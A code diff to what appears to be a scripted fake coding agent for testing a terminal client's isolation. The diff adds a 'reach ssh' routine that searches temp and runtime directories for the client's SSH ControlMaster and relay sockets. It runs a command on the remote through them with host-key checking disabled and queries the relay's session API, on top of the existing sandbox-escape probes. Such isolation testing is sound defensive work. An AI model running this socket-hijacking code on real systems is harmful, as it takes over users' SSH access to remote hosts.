@@ -24,6 +24,8 @@ It does what real coding agents do, chosen by words in the prompt:
   the JSON, both through the client (``fs/write_text_file``, ``fs/read_text_file``) and from its
   own process (renames, ``umount``, ``/proc/<worker pid>/root``, bpf, its capabilities), and
   says what happened to each as ``attack results: {json}``.
+- ``reach ssh {json}``: looks for a tui's SSH connection sockets and tries to use them
+  (`reach_ssh`), saying what happened as ``ssh results: {json}``;
 - ``usage``: reports the context it uses and what the session cost (``usage_update``).
 
 A session has two modes (``ask``, ``code``) and a ``model`` config option (``fast``, ``smart``,
@@ -282,6 +284,9 @@ class CodingAgent:
             await self.say(
                 session_id, acp.update_agent_message_text(f"attack results: {json.dumps(results)}\n")
             )
+        if text.startswith("reach ssh "):
+            found = reach_ssh(json.loads(text.removeprefix("reach ssh ")))
+            await self.say(session_id, acp.update_agent_message_text(f"ssh results: {json.dumps(found)}\n"))
         if "usage" in text:
             await self.say(
                 session_id,
@@ -554,6 +559,65 @@ class CodingAgent:
         )
         results["CapEff"] = capabilities()
         return results
+
+
+def reach_ssh(t: dict[str, str]) -> dict[str, str]:
+    """Look for a tui's SSH connections (its ControlMaster's socket, the socket forwarded to a
+    remote's relay) where sockets are kept, and use what is found and the paths `t` names: a command
+    run on the remote through the master, the relay's sessions asked for. Each attempt and what
+    came of it (``done: …`` when it worked); ``found`` lists what was seen. Also run by a program
+    (its source is sent as the program)."""
+    import glob
+    import os
+    import socket
+    import subprocess
+    import tempfile
+
+    results: dict[str, str] = {}
+    uid = os.getuid()
+    runtime = os.environ.get("XDG_RUNTIME_DIR", f"/run/user/{uid}")
+    places = {tempfile.gettempdir(), "/tmp", f"/tmp/tui-{uid}", runtime, f"{runtime}/tui"}
+    places |= {os.path.dirname(os.path.dirname(t["control"])), os.path.dirname(t["control"])}
+    found: list[str] = []
+    for place in sorted(places):
+        try:
+            names = os.listdir(place)
+        except OSError as exc:
+            results[f"list {place}"] = type(exc).__name__
+            continue
+        for name in names:
+            if "ssh" in name:
+                found += [p for p in glob.glob(os.path.join(place, name, "*")) if os.path.basename(p) in "cs"]
+    results["found"] = " ".join(sorted(set(found)))
+    controls = {t["control"], *(p for p in found if p.endswith("/c"))}
+    relays = {t["relay"], *(p for p in found if p.endswith("/s"))}
+    options = ["-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null"]
+    options += ["-o", "LogLevel=ERROR", "-p", t["port"]]
+    for control in sorted(controls):
+        for what, argv in (
+            ("check", ["ssh", "-S", control, "-O", "check", *options, t["destination"]]),
+            ("run id", ["ssh", "-S", control, *options, t["destination"], "id", "-u"]),
+        ):
+            try:
+                ran = subprocess.run(
+                    argv, capture_output=True, text=True, timeout=20, stdin=subprocess.DEVNULL
+                )
+            except (OSError, subprocess.SubprocessError) as exc:
+                results[f"ssh {what} {control}"] = type(exc).__name__
+                continue
+            said = (ran.stdout + ran.stderr).strip().replace("\n", " / ")
+            results[f"ssh {what} {control}"] = ("done: " if ran.returncode == 0 else "failed: ") + said
+    for relay in sorted(relays):
+        try:
+            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
+                s.settimeout(20)
+                s.connect(relay)
+                s.sendall(b"GET /api/sessions HTTP/1.1\r\nhost: tui-relay\r\nconnection: close\r\n\r\n")
+                head = s.recv(200).decode(errors="replace").split("\r\n")[0]
+            results[f"relay {relay}"] = ("done: " if " 200 " in head else "failed: ") + head
+        except OSError as exc:
+            results[f"relay {relay}"] = type(exc).__name__
+    return results
 
 
 def capabilities() -> str:
